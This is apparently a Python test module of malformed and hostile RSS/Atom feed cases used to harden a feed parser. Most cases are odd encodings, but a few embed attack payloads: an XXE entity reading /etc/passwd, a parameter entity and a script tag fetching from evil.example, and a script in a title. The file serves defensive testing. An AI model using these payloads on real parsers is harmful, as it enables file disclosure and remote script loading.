"""Defects of characters: junk, controls, entities, references, ampersands, prefixes."""

from tests.homepage.hostile_feeds.shapes import THREE, Case, Expected, atom, case, item, rss, sound

DAY = THREE[0].time


def _titled(raw: str, title: str, head: str = '<?xml version="1.0"?>') -> Case:
    """One item whose title is written raw, beside two sound ones."""
    first = item(THREE[0]).replace("<title>Rain over Lisbon<", f"<title>{raw}<")
    items = [THREE[0]._replace(title=title), *THREE[1:]]
    return sound(rss(first, *map(item, THREE[1:]), head=head), items)


@case
def white_space_before_declaration() -> Case:
    return sound("\r\n\n   " + rss())


@case
def warning_of_php_before_feed() -> Case:
    return sound(
        "<br />\n<b>Warning</b>: mysql_connect() in <b>/www/rss.php</b> line 3<br />" + rss()
    )


@case
def text_before_feed() -> Case:
    return sound("HTTP/1.1 200 OK\r\nServer: x\r\n\r\n" + rss())


@case
def script_after_feed() -> Case:
    return sound(rss() + '<script src="https://evil.example/x.js"></script><!-- 0.3 s -->')


@case
def two_declarations() -> Case:
    return sound('<?xml version="1.0"?>\n' + rss())


@case
def declaration_of_xml_1_1() -> Case:
    return sound(rss(head='<?xml version="1.1" encoding="UTF-8"?>'))


@case
def unfinished_declaration() -> Case:
    return sound(rss(head='<?xml version="1.0" encoding="UTF-8">'))


@case
def control_characters() -> Case:
    return _titled("Rain \x01over\x0b Lis\x1fbon", "Rain over Lisbon")


@case
def zeros_between_letters() -> Case:
    return _titled("Rain\x00 over Lisbon", "Rain over Lisbon")


@case
def noncharacters() -> Case:
    return _titled("Rain over\ufffe Lisbon\uffff", "Rain over Lisbon")


@case
def reversed_direction() -> Case:
    return _titled("Rain \u202eover\u202c Lisbon", "Rain over Lisbon")


@case
def named_entities_of_html() -> Case:
    return _titled("Caf&eacute;&nbsp;&ndash; R&amp;D &hellip;", "Café – R&D …")


@case
def entity_nobody_knows() -> Case:
    return _titled("Rain &lisboa; today", "Rain &lisboa; today")


@case
def bare_ampersand() -> Case:
    return _titled("Rock & Roll at AT&T & more", "Rock & Roll at AT&T & more")


@case
def ampersands_in_links() -> Case:
    first = item(THREE[0]).replace("example/1<", "example/1?a=1&b=2&copy=3<")
    items = [THREE[0]._replace(link="https://news.example/1?a=1&b=2&copy=3"), *THREE[1:]]
    return sound(rss(first, *map(item, THREE[1:])), items)


@case
def ampersands_in_cdata() -> Case:
    return _titled("<![CDATA[R&D &amp; A&T]]> &amp; all", "R&D & A&T & all")


@case
def references_outside_unicode() -> Case:
    return _titled("Rain &#x110000;over &#99999999;Lisbon", "Rain over Lisbon")


@case
def references_to_controls() -> Case:
    return _titled("Rain &#0;over &#x1F;Lisbon&#8;", "Rain over Lisbon")


@case
def references_to_half_characters() -> Case:
    return _titled("Sun &#55357;&#56832; and &#xD83D;half", "Sun 😀 and half")


@case
def references_to_windows_letters() -> Case:
    return _titled("Rain &#150; &#147;wet&#148;", "Rain – “wet”")


@case
def reference_without_semicolon() -> Case:
    return _titled("Rain &#8211 over Lisbon", "Rain – over Lisbon")


@case
def escaped_twice() -> Case:
    return _titled("Q&amp;amp;A &amp;quot;now&amp;quot;", 'Q&A "now"')


@case
def tags_in_title() -> Case:
    return _titled("&lt;b&gt;Rain&lt;/b&gt; over &lt;i&gt;Lisbon&lt;/i&gt;", "Rain over Lisbon")


@case
def tags_in_title_escaped_twice() -> Case:
    return _titled("&amp;lt;b&amp;gt;Rain&amp;lt;/b&amp;gt; over Lisbon", "Rain over Lisbon")


@case
def tags_in_title_unescaped() -> Case:
    return _titled("<b>Rain</b> over <i>Lisbon</i>", "Rain over Lisbon")


@case
def brackets_that_are_no_tags() -> Case:
    return _titled("List&lt;T&gt; for 1 &lt; 2", "List<T> for 1 < 2")


@case
def script_in_title() -> Case:
    return _titled("<![CDATA[<script>alert(1)</script>Rain]]>", "Rain")


@case
def cdata_in_pieces() -> Case:
    return _titled("<![CDATA[Ra]]><![CDATA[in]]> over <![CDATA[Lisbon]]>", "Rain over Lisbon")


@case
def title_over_many_lines() -> Case:
    return _titled("\n\t Rain\n\t over\r\n\t Lisbon \n", "Rain over Lisbon")


@case
def title_of_ten_thousand_letters() -> Case:
    return _titled("rain " * 2_000, ("rain " * 60)[:299].rstrip() + "…")


@case
def undeclared_prefixes() -> Case:
    first = item(THREE[0], "<dc:creator>Ana</dc:creator><content:encoded>Hi</content:encoded>")
    return sound(rss(first, *map(item, THREE[1:])))


@case
def undeclared_prefix_on_the_date() -> Case:
    first = item(THREE[0]).replace("<pubDate>", "<dc:date>").replace("</pubDate>", "</dc:date>")
    return sound(rss(first, *map(item, THREE[1:])))


@case
def namespace_without_slash() -> Case:
    root = ' xmlns:dc="http://purl.org/dc/elements/1.1"'
    first = item(THREE[0]).replace("<pubDate>", "<dc:date>").replace("</pubDate>", "</dc:date>")
    return sound(rss(first, *map(item, THREE[1:]), root=root))


@case
def namespace_of_a_stranger() -> Case:
    return sound(rss(root=' xmlns="http://strange.example/ns"'))


@case
def atom_without_namespace() -> Case:
    return sound(atom().replace(' xmlns="http://www.w3.org/2005/Atom"', ""))


@case
def doctype_of_netscape() -> Case:
    doctype = '<!DOCTYPE rss PUBLIC "-//Netscape//DTD RSS 0.91//EN" "http://my.netscape.com/x.dtd">'
    return _titled("Caf&eacute;", "Café", '<?xml version="1.0"?>' + doctype)


@case
def entity_of_a_file() -> Case:
    doctype = '<!DOCTYPE rss [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
    return _titled("Rain &f; today", "Rain &f; today", '<?xml version="1.0"?>' + doctype)


@case
def parameter_entity_of_a_host() -> Case:
    doctype = '<!DOCTYPE rss [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p; ]>'
    return sound(rss(head='<?xml version="1.0"?>' + doctype))


@case
def processing_instructions_everywhere() -> Case:
    return sound(
        rss().replace("<link>", "<?x y?><link>").replace("<item>", "<!-- i --><item><?php?>")
    )


@case
def comment_inside_a_link() -> Case:
    return sound(
        rss().replace("https://news.example/1</link>", "https://news.<!-- x -->example/1</link>")
    )


def _lonely(title: str) -> list[Expected]:
    return [Expected(title, THREE[0].link, DAY)]


@case
def emoji_beyond_the_first_plane() -> Case:
    return sound(rss(item(_lonely("🌧 Rain 👨‍👩‍👧")[0])), _lonely("🌧 Rain 👨‍👩‍👧"))
